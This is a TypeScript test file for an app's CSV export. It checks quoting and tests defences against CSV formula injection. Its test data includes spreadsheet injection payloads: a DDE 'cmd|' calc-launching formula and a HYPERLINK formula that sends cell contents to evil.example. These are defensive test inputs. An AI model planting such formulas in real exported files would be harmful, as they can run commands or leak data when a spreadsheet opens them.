import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { emptyDocument, type UserDocument } from '../../../src/shared/document';
import { CSV_COLUMNS, UTF8_BOM, isFormulaLike, neutraliseCell, renderCsv } from '../../../src/shared/csv';
import { updateProgress } from '../../../src/shared/mutations';
import { pathView } from '../../../src/shared/pathView';
import { applyStatus } from '../../../src/shared/progress';
import { milestone, roadmap } from '../../support/roadmapFixtures';

const path = roadmap('p', [milestone('a', [], { title: 'Python, "the basics"', estimateHours: 10 }), milestone('b', ['a'], { title: 'Docker' })]);

const parse = (content: string) => {
  expect(content.startsWith(UTF8_BOM)).toBe(true);
  const parsed = Papa.parse<string[]>(content.slice(1), { header: false, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
};

describe('renderCsv', () => {
  const tricky = 'Line one, with a comma\nLine "two" with quotes\r\nand a CRLF line; ünïcødé ✓';
  let doc: UserDocument = applyStatus(emptyDocument(), 'a', 'done', new Date('2026-05-03T10:00:00Z'));
  doc = updateProgress(doc, 'a', { notes: tricky, hoursSpent: 12.5, targetDate: '2026-05-10', evidenceUrl: 'https://github.com/me/a' });
  doc = { ...doc, study: { hoursPerWeek: 8, weekdays: [0], startDate: '2026-05-01', goalDates: {}, estimateOverrides: { b: 7 } } };

  it('round-trips notes with commas, quotes and line breaks exactly, one row per milestone under a header', () => {
    const rows = parse(renderCsv(pathView(path, doc), doc, '2026-06-01', { includeNotes: true }).content);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(3);
    const a = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, rows[1]![i]]));
    expect(a).toMatchObject({
      'Milestone id': 'a',
      Milestone: 'Python, "the basics"',
      Status: 'done',
      'Target date': '2026-05-10',
      'Hours spent': '12.5',
      'Estimate (hours)': '10',
      Evidence: 'https://github.com/me/a',
      Notes: tricky,
    });
    expect(a['Completed']).toMatch(/^2026-05-0[34]$/);
    expect(rows[2]!.slice(1, 5)).toEqual(['b', 'Docker', 'no', 'todo']);
    expect(rows[2]![9]).toBe('7');
  });

  it('quotes as RFC 4180 says: CRLF between records, quotes doubled, plain fields bare', () => {
    const { content, fileName } = renderCsv(pathView(path, doc), doc, '2026-06-01', { includeNotes: true });
    expect(fileName).toBe('pathboard-p-milestones-2026-06-01.csv');
    const lines = content.slice(1).split('\r\n');
    expect(lines[0]).toBe(CSV_COLUMNS.join(','));
    expect(content).toContain('"Python, ""the basics"""');
    expect(content).toContain(',Docker,');
    expect(content.endsWith('\r\n')).toBe(true);
  });

  it('leaves notes out unless asked', () => {
    const rows = parse(renderCsv(pathView(path, doc), doc, '2026-06-01', { includeNotes: false }).content);
    expect(rows[1]!.at(-1)).toBe('');
  });

  it('keeps a spreadsheet from running a note or a title as a formula, but leaves Markdown list dashes alone', () => {
    const withFormula = updateProgress(doc, 'b', { notes: '=HYPERLINK("http://x")' });
    const listy = updateProgress(doc, 'b', { notes: '- first\n- second' });
    expect(parse(renderCsv(pathView(path, withFormula), withFormula, '2026-06-01', { includeNotes: true }).content)[2]!.at(-1)).toBe(`'=HYPERLINK("http://x")`);
    expect(parse(renderCsv(pathView(path, listy), listy, '2026-06-01', { includeNotes: true }).content)[2]!.at(-1)).toBe('- first\n- second');
    const hostileTitle = roadmap('p', [milestone('a', [], { title: "-2+3+cmd|' /C calc'!A0" })]);
    expect(parse(renderCsv(pathView(hostileTitle, emptyDocument()), emptyDocument(), '2026-06-01', { includeNotes: false }).content)[1]![2]).toBe(
      "'-2+3+cmd|' /C calc'!A0",
    );
  });
});

describe('neutraliseCell (OWASP CSV injection)', () => {
  // Each of these runs, or could run, as a formula when a spreadsheet opens the file.
  const FORMULAS = [
    '=1+1',
    '+1+1',
    '@SUM(A1:A2)',
    '\t=1+1',
    '\r=1+1',
    "-2+3+cmd|' /C calc'!A0",
    '-1',
    '-A1',
    '-(1)',
    '--1',
    '-=1',
    '- 2+3',
    '- HYPERLINK("https://evil.example/?"&A1,"open")',
    "- note\n- cmd|' /C calc'!A0",
    '- see Sheet2!A1',
    '-\titem',
  ];
  // Notes a learner writes: a Markdown list must come out exactly as typed.
  const TEXT = ['- first\n- second', '- Read chapter 3 (the one on pandas)\n- Done!', '- item: 3 + 4 = 7', 'plain', '', 'a=b', ' -1', '2026-05-01', 'https://x.example/a-b'];

  it.each(FORMULAS)('neutralises %j with a leading apostrophe', (cell) => {
    expect(isFormulaLike(cell)).toBe(true);
    expect(neutraliseCell(cell)).toBe(`'${cell}`);
  });

  it.each(TEXT)('leaves %j as it is', (cell) => {
    expect(isFormulaLike(cell)).toBe(false);
    expect(neutraliseCell(cell)).toBe(cell);
  });
});
